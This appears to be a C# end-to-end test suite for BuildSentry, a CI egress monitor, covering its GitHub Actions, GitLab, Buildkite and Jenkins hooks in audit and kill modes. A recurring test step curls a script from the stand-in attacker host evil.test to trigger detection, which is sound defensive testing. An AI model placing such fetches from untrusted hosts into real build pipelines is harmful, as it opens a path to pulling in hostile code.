using System.Text.RegularExpressions;
using BuildSentry.Testing;
using BuildSentry.Testing.Lab;

namespace BuildSentry.EndToEnd;

/// <summary>
/// Each runner integration run the way its runner runs it, against the real daemon in the lab, with a job that
/// reaches evil.test (off its profile): what the developer sees at the job's end is checked line by line.
/// </summary>
[Collection(LabCollection.Name)]
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed partial class RunnerHookTests(NetworkLabFixture fixture)
{
    private const string EvilStep = "curl -s -m 10 -o /dev/null http://evil.test/helper.sh; echo step done";

    private NetworkLab Lab => fixture.Lab;

    [Fact]
    public async Task GitHub_job_completed_hook_appends_the_report_to_the_step_summary_and_annotates_each_violation()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        using var runner = new RunnerHookSetup(daemon);
        var runId = RunnerHookSetup.RandomId();
        var (worker, env, summary) = GitHubWorker(runner, runId, afterStep: "");
        using var process = Lab.StartJob(worker, env);
        var result = await Command.WaitAsync(process, TimeSpan.FromSeconds(60));

        Assert.True(result.ExitCode == 0, result.ToString());
        Assert.Contains($"job github-{runId}-1-build monitored from pid {process.Id}", result.StandardOutput);
        var markdown = await File.ReadAllTextAsync(summary);
        Assert.StartsWith($"# Job github-{runId}-1-build: VIOLATIONS", markdown);
        Assert.Contains("evil.test", markdown);
        var annotations = result.StandardOutput.Split('\n').Where(l => l.StartsWith("::", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(annotations);
        Assert.All(annotations, line => Assert.Matches(WorkflowCommand(), line));
        Assert.Contains(annotations, line => line.Contains("evil.test", StringComparison.Ordinal)
                                             && line.StartsWith("::error title=BuildSentry%3A egress.", StringComparison.Ordinal));
        Assert.Contains(annotations, line => line.Contains($"job github-{runId}-1-build: ", StringComparison.Ordinal));
    }

    [Fact]
    public async Task GitHub_job_killed_in_kill_mode_leaves_the_worker_running_and_its_completed_hook_shows_the_killed_verdict()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
        using var runner = new RunnerHookSetup(daemon);
        var runId = RunnerHookSetup.RandomId();
        // The worker fails the killed step and goes on to its completion hook, as Runner.Worker does.
        var (worker, env, summary) = GitHubWorker(runner, runId, afterStep: "; echo \"step exit $?\"");
        var before = Lab.BytesReceivedBy("evil.test");
        using var process = Lab.StartJob(worker, env);
        var result = await Command.WaitAsync(process, TimeSpan.FromSeconds(60));

        Assert.True(result.ExitCode == 0, result.ToString());
        Assert.Contains($"(a kill spares pid {process.Id})", result.StandardOutput);
        Assert.DoesNotContain("step done", result.StandardOutput);
        Assert.Contains("step exit 137", result.StandardOutput);
        Assert.Contains("worker done", result.StandardOutput);
        Assert.Equal(before, Lab.BytesReceivedBy("evil.test"));
        var markdown = await File.ReadAllTextAsync(summary);
        Assert.StartsWith($"# Job github-{runId}-1-build: KILLED", markdown);
        Assert.Contains("the runner's own process was spared", markdown);
        Assert.Contains("evil.test", markdown);
        var annotations = result.StandardOutput.Split('\n').Where(l => l.StartsWith("::", StringComparison.Ordinal)).ToList();
        Assert.All(annotations, line => Assert.Matches(WorkflowCommand(), line));
        Assert.Contains(annotations, line => line.StartsWith("::error title=BuildSentry%3A ", StringComparison.Ordinal)
                                             && line.Contains("(killed)::", StringComparison.Ordinal) && line.Contains("evil.test", StringComparison.Ordinal));
    }

    [Fact]
    public async Task GitLab_post_build_script_prints_the_report_in_a_collapsible_section_of_the_job_log()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        using var runner = new RunnerHookSetup(daemon);
        var jobId = RunnerHookSetup.RandomId();
        var env = new Dictionary<string, string>(runner.Environment)
        {
            ["GITLAB_CI"] = "true", ["CI_JOB_ID"] = jobId, ["CI_PROJECT_PATH"] = "acme/app", ["CI_JOB_NAME"] = "build",
            ["CI_PIPELINE_ID"] = "77", ["CI_RUNNER_ID"] = "5",
        };
        // The shell executor runs pre_build_script, the job's script and post_build_script in one bash, in the build directory.
        var script = $"""
            cd {runner.Directory}
            {RunnerHookSetup.Hook("gitlab-pre-build.sh")}
            {EvilStep}
            buildsentry job report --job-id github-1-1-build > /dev/null 2>&1; echo "another job's report: exit $?"
            {RunnerHookSetup.Hook("gitlab-post-build.sh")}
            """;
        using var process = Lab.StartJob(["bash", "-c", script], env);
        var result = await Command.WaitAsync(process, TimeSpan.FromSeconds(60));

        Assert.True(result.ExitCode == 0, result.ToString());
        Assert.Contains("another job's report: exit 1", result.StandardOutput);
        var section = GitLabSection().Match(result.StandardOutput);
        Assert.True(section.Success, result.StandardOutput);
        Assert.Equal(section.Groups["start"].Value, section.Groups["end"].Value);
        Assert.StartsWith($"BuildSentry: job gitlab-{jobId} VIOLATIONS", section.Groups["header"].Value);
        Assert.Contains("## Violations (", section.Groups["body"].Value);
        Assert.Contains("evil.test", section.Groups["body"].Value);
    }

    [Fact]
    public async Task Buildkite_environment_and_pre_exit_hooks_register_the_job_at_the_bootstrap_and_annotate_its_violations()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        using var runner = new RunnerHookSetup(daemon);
        var jobId = Guid.NewGuid().ToString();
        var hooks = Path.Combine(runner.Directory, "hooks");
        runner.Write("hooks/environment", $"source {RunnerHookSetup.Hook("buildkite-environment.sh")}\n", executable: true);
        runner.Write("hooks/pre-exit", $"source {RunnerHookSetup.Hook("buildkite-pre-exit.sh")}\n", executable: true);
        // The agent's job bootstrap: each hook sourced by a bash of its own (then its environment exported), the
        // command in bash, all children of the bootstrap; `annotate` records what it was given.
        var agent = runner.Write("bin/buildkite-agent", $$"""
            #!/bin/bash
            case "$1" in
              bootstrap)
                cd {{runner.Directory}}
                bash -c 'source "$1" && export -p > /dev/null' environment {{hooks}}/environment || exit $?
                bash -c "$BUILDKITE_COMMAND"; status=$?
                bash -c 'source "$1"' pre-exit {{hooks}}/pre-exit
                exit $status ;;
              annotate)
                shift
                printf '%s\n' "$@" > {{runner.Directory}}/annotate.args
                cat > {{runner.Directory}}/annotate.body ;;
            esac
            """, executable: true);
        var env = new Dictionary<string, string>(runner.Environment)
        {
            ["BUILDKITE"] = "true", ["BUILDKITE_JOB_ID"] = jobId, ["BUILDKITE_PIPELINE_SLUG"] = "app", ["BUILDKITE_BUILD_NUMBER"] = "12",
            ["BUILDKITE_LABEL"] = "build", ["BUILDKITE_AGENT_NAME"] = "lab-agent", ["BUILDKITE_COMMAND"] = EvilStep,
        };
        using var process = Lab.StartJob([agent, "bootstrap"], env);
        var result = await Command.WaitAsync(process, TimeSpan.FromSeconds(60));

        Assert.True(result.ExitCode == 0, result.ToString());
        // Job ids keep letters, digits, '.' and '_' of the CI's id.
        var job = $"buildkite-{jobId.Replace('-', '_')}";
        Assert.Contains($"job {job} monitored from pid {process.Id}", result.StandardOutput);
        Assert.Contains("--- BuildSentry report", result.StandardOutput);
        Assert.Contains($"- root_pid: {process.Id}", result.StandardOutput);
        Assert.Equal(["--style", "error", "--context", $"buildsentry-{jobId}"],
            (await File.ReadAllTextAsync(Path.Combine(runner.Directory, "annotate.args"))).TrimEnd('\n').Split('\n'));
        var body = await File.ReadAllTextAsync(Path.Combine(runner.Directory, "annotate.body"));
        Assert.StartsWith($"**BuildSentry**: job {job.Replace("_", "\\_", StringComparison.Ordinal)} **VIOLATIONS**, profile default, mode audit", body);
        Assert.Contains("evil.test", body);
    }

    [Fact]
    public async Task Jenkins_exec_wrapper_prints_the_report_and_exits_with_the_command_s_status()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        using var runner = new RunnerHookSetup(daemon);
        var tag = $"jenkins-app-{RunnerHookSetup.RandomId()}";
        var env = new Dictionary<string, string>(runner.Environment)
        {
            ["BUILD_TAG"] = tag, ["JENKINS_URL"] = "http://jenkins.test/", ["JOB_NAME"] = "app", ["BUILD_NUMBER"] = "9", ["NODE_NAME"] = "lab",
        };
        // A pipeline `sh` step: sh -c 'buildsentry exec -- ...' in the workspace.
        using var process = Lab.StartJob(["sh", "-c", $"cd {runner.Directory} && buildsentry exec -- bash -c '{EvilStep}; exit 3'"], env);
        var result = await Command.WaitAsync(process, TimeSpan.FromSeconds(60));

        Assert.True(result.ExitCode == 3, result.ToString());
        Assert.Contains("step done", result.StandardOutput);
        var job = $"jenkins-{tag.Replace('-', '_')}";
        Assert.Contains($"buildsentry: job {job} monitored from pid", result.StandardError);
        Assert.Contains($"# Job {job}: VIOLATIONS", result.StandardError);
        Assert.Contains("evil.test", result.StandardError);
    }

    [Fact]
    public async Task Jenkins_exec_wrapper_survives_the_kill_of_its_command_exits_137_and_prints_the_killed_report()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
        using var runner = new RunnerHookSetup(daemon);
        var tag = $"jenkins-app-{RunnerHookSetup.RandomId()}";
        var env = new Dictionary<string, string>(runner.Environment) { ["BUILD_TAG"] = tag, ["JENKINS_URL"] = "http://jenkins.test/" };
        var before = Lab.BytesReceivedBy("evil.test");
        using var process = Lab.StartJob(["buildsentry", "exec", "--", "sh", "-c", EvilStep], env);
        var result = await Command.WaitAsync(process, TimeSpan.FromSeconds(60));

        // The kill takes the command and everything it started; the wrapper is spared to print the report.
        Assert.True(result.ExitCode == 137, result.ToString());
        Assert.DoesNotContain("step done", result.StandardOutput);
        Assert.Equal(before, Lab.BytesReceivedBy("evil.test"));
        var job = $"jenkins-{tag.Replace('-', '_')}";
        Assert.Contains($"# Job {job}: KILLED", result.StandardError);
        Assert.Contains("the runner's own process was spared", result.StandardError);
        Assert.Contains("evil.test", result.StandardError);
    }

    /// <summary>
    /// A GitHub runner's worker stand-in (bash copied as Runner.Worker, so its comm is the worker's) with the job's
    /// environment: it runs each hook as `bash --noprofile --norc -e -o pipefail FILE` in the workspace, and the step,
    /// followed by <paramref name="afterStep"/>, as its child; then says "worker done".
    /// </summary>
    private static (string[] Command, Dictionary<string, string> Environment, string Summary) GitHubWorker(RunnerHookSetup runner, string runId,
        string afterStep)
    {
        var workspace = System.IO.Directory.CreateDirectory(Path.Combine(runner.Directory, "_work", "app", "app")).FullName;
        var summary = runner.Write("_temp/_runner_file_commands/step_summary_hook", "");
        var worker = Path.Combine(runner.Directory, "Runner.Worker");
        File.Copy("/bin/bash", worker);
        File.SetUnixFileMode(worker, UnixFileMode.UserRead | UnixFileMode.UserExecute);
        var env = new Dictionary<string, string>(runner.Environment)
        {
            ["GITHUB_ACTIONS"] = "true", ["GITHUB_RUN_ID"] = runId, ["GITHUB_RUN_ATTEMPT"] = "1", ["GITHUB_JOB"] = "build",
            ["GITHUB_REPOSITORY"] = "acme/app", ["GITHUB_WORKFLOW"] = "ci", ["RUNNER_NAME"] = "lab-runner", ["GITHUB_WORKSPACE"] = workspace,
        };
        var script = $"""
            cd "$GITHUB_WORKSPACE"
            bash --noprofile --norc -e -o pipefail {RunnerHookSetup.Hook("github-job-started.sh")} || exit 90
            bash --noprofile --norc -e -o pipefail -c '{EvilStep}'{afterStep}
            GITHUB_STEP_SUMMARY={summary} bash --noprofile --norc -e -o pipefail {RunnerHookSetup.Hook("github-job-completed.sh")}
            echo "worker done"
            """;
        return ([worker, "-c", script], env, summary);
    }

    [GeneratedRegex(@"^::(error|warning) title=[^:,\r\n]*::[^\r\n]*$")]
    private static partial Regex WorkflowCommand();

    [GeneratedRegex(@"\u001b\[0Ksection_start:(?<start>\d+):buildsentry_report\[collapsed=false\]\r\u001b\[0K(?<header>[^\n]*)\n(?<body>.*)\u001b\[0Ksection_end:(?<end>\d+):buildsentry_report\r\u001b\[0K\n", RegexOptions.Singleline)]
    private static partial Regex GitLabSection();
}
